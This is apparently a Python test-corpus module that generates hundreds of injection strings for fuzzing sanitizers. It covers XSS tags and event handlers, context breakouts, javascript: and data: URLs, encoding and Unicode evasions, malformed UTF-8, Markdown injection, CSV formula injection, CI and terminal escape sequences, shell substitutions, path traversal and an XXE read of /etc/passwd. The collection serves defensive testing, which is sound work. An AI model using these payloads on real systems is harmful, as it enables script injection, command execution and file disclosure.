"""Texts that try to become script, markup, a request or a command somewhere. Made of parts: how to leave a context, and what to
do outside of it. Every one of them either calls alert or asks for something at foreign.invalid.
"""

FOREIGN = "http://foreign.invalid/x"

# What ends the place where a text stands: element, attribute, comment, style, script, CDATA, template, Markdown.
LEAVE = ["", ">", "\">", "'>", "`>", "-->", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</svg>", "</text></svg>",
         "</desc></g>", "}}", "{{/a}}", "\n\n", "\"/>", "\\\">", "&quot;>", "%22%3E"]

DO = [
    "<script>alert(1)</script>", f"<script src={FOREIGN}></script>", "<ScRiPt>alert(1)</sCrIpT>", "<script\x0c>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script>alert`1`",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", f"<img src={FOREIGN}>", f"<img srcset='{FOREIGN} 2x'>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    f"<svg><image href={FOREIGN}></svg>", f"<svg><use href='{FOREIGN}#a'></svg>", "<svg><a href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>", "<svg><set attributeName=href to=javascript:alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<math><style><img src onerror=alert(1)></style></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>", f"<iframe src={FOREIGN}></iframe>",
    "<object data=javascript:alert(1)>", f"<object data={FOREIGN}></object>", f"<embed src={FOREIGN}>", "<body onload=alert(1)>", "<html onmouseover=alert(1)>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<video><source onerror=alert(1)></video>",
    f"<video poster={FOREIGN}></video>", f"<audio src={FOREIGN} autoplay>", "<marquee onstart=alert(1)>x</marquee>", "<style>@import 'http://foreign.invalid/x';</style>",
    f"<style>*{{background:url({FOREIGN})}}</style>", f"<p style='background:url({FOREIGN})'>", f"<link rel=stylesheet href={FOREIGN}>", f"<link rel=prefetch href={FOREIGN}>",
    f"<base href={FOREIGN}>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", f"<meta http-equiv=refresh content='0;url={FOREIGN}'>",
    "<a href='javascript:alert(1)' autofocus>x</a>", "<a href='jav&#x09;ascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=javascript:alert(1)><input type=submit></form>", "<button formaction=javascript:alert(1)>x</button>", f"<form action={FOREIGN}><input autofocus>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<textarea><img title='</textarea><img src onerror=alert(1)>'>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'>", "<table background='http://foreign.invalid/x'>", "<img src=x:x onerror\n=\nalert(1)>", "<x onpointerenter=alert(1) style=position:fixed;inset:0>",
    "<portal src='http://foreign.invalid/x'>", "<input type=image src='http://foreign.invalid/x'>", "<plaintext>", "<isindex action=javascript:alert(1)>",
]

# Inside an attribute or an address.
ATTRIBUTE = [
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "` onload=alert(1) `", "\" onfocus=alert(1) autofocus tabindex=1 x=\"", "\" style=\"background:url(http://foreign.invalid/x)",
    "\" src=\"http://foreign.invalid/x", "' href='javascript:alert(1)", "x onerror=alert(1)", "\"onload=alert(1)//", "\x0conload=alert(1)", "\" xlink:href=\"javascript:alert(1)",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "javascript:/*</title></style></script>*/alert(1)", "javascript:%61lert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "//foreign.invalid/x", "\\\\foreign.invalid\\x", "/\\foreign.invalid/x", "http:foreign.invalid/x", FOREIGN, "https://user:pass@foreign.invalid/x?token=1", "file:///etc/passwd", "blob:http://foreign.invalid/x",
    "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "../../../../etc/passwd", "..%2f..%2fx", "%2e%2e/x", "x#\" onclick=alert(1)", "x?\"><svg/onload=alert(1)>",
]

# The same bytes read in another encoding, and characters that some readers take for others.
ENCODED = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+/v8-+ADw-img src=x onerror=alert(1)+AD4-", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u02c2script\u02c3alert(1)", "\u2039script\u203aalert(1)", "<\u200bscript>alert(1)</script>", "<script\u2028>alert(1)</script>", "\ufeff<script>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<", "<ſcript>alert(1)</ſcript>", "<ımg src=x onerror=alert(1)>", "\x1b[31m<script>alert(1)</script>", "\x1b]0;title\x07<svg/onload=alert(1)>", "\x9b31m<svg/onload=alert(1)>",
]

# As bytes that are no UTF-8: overlong forms, lone surrogates, cut sequences, other encodings.
BYTES = [
    b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe", b"\xe0\x80\xbcimg src=x onerror=alert(1)\xe0\x80\xbe", b"\xf0\x80\x80\xbcsvg/onload=alert(1)\xf0\x80\x80\xbe", b"\xed\xa0\xbc<svg/onload=alert(1)>",
    b"\xff<script>alert(1)</script>", b"\xc3\" onmouseover=alert(1) x=\"", b"\xe2\x82\"><svg/onload=alert(1)>", b"\xbcscript\xbealert(1)\xbc/script\xbe", b"\x1b$B<script>alert(1)</script>", b"\xfe\xff\x00<\x00s\x00v\x00g",
    b"\x83<script>alert(1)</script>", b"a\x00<script>alert(1)</script>",
]

# What Markdown makes of it.
MARKDOWN = [
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x](java&#x0A;script:alert(1))", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1))", "[x](data:text/html,<script>alert(1)</script>)", "![x](javascript:alert(1))",
    f"![x]({FOREIGN})", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x](//foreign.invalid/x)", "![x](assets/../../../etc/passwd)", "[x][y]\n\n[y]: javascript:alert(1)", "![x][y]\n\n[y]: http://foreign.invalid/x",
    "<javascript:alert(1)>", f"<{FOREIGN}>", "[x](http://a\"onmouseover=alert(1))", "[x](http://a 'y\" onclick=\"alert(1)')", "[\"><svg/onload=alert(1)>](http://a)", "`<script>alert(1)</script>`", "```\n</code><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```", "# <svg/onload=alert(1)>", "# x {#\"><svg/onload=alert(1)>}", "<div>\n<script>alert(1)</script>\n</div>", "<!-- --><script>alert(1)</script>", "<![CDATA[><script>alert(1)</script>]]>", "<?x ><script>alert(1)</script>?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)</script>", "| <svg/onload=alert(1)> |\n|---|\n| x |", "- [ ] <img src=x onerror=alert(1)>", "[^1]: <script>alert(1)</script>", "***[x](javascript:alert(1))***",
]

# What spreadsheets, terminals and CI systems run.
COMMANDS = [
    "=cmd|'/c calc'!A0", "=HYPERLINK(\"http://foreign.invalid/x\")", "+1+cmd|'/c calc'!A0", "-1+cmd|'/c calc'!A0", "@SUM(1+1)*cmd|'/c calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\uff1d1+1", "\x00=1+1", ";=1+1", ",=1+1",
    "\"=1+1", "\"\"=1+1", "'=1+1", "::error::x", "::set-output name=a::b", "::add-mask::x", "::stop-commands::x", "##[error]x", "##vso[task.setvariable variable=a]b", "##teamcity[buildStatus text='x']", "%0A::error::x", "a\n::error::x", "a\r\n##[error]x", "a\u2028::error::x",
    "section_start:1:x\r\x1b[0K", "\x1b[2J", "\x1b]8;;http://foreign.invalid/x\x07link\x1b]8;;\x07", "\x1bP$q\"p\x1b\\", "\x07\x08\x7f", "\u202ereversed", "\u2066isolated", "\u200fmark", "$(id)", "`id`", "; id", "| id", "%s%n%d", "\\", "]]><x/>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>", "&y;",
]


def all_texts():
    """Every vector once, as bytes: several hundred."""
    texts = []
    for place, do in enumerate(DO):
        # Each thing to do after several ways out, so that every way is taken many times.
        texts += [LEAVE[(place * 5 + step) % len(LEAVE)] + do for step in range(5)]
    texts += ATTRIBUTE + ENCODED + MARKDOWN + COMMANDS
    found = dict.fromkeys([text.encode("utf-8") for text in texts] + BYTES)
    return list(found)
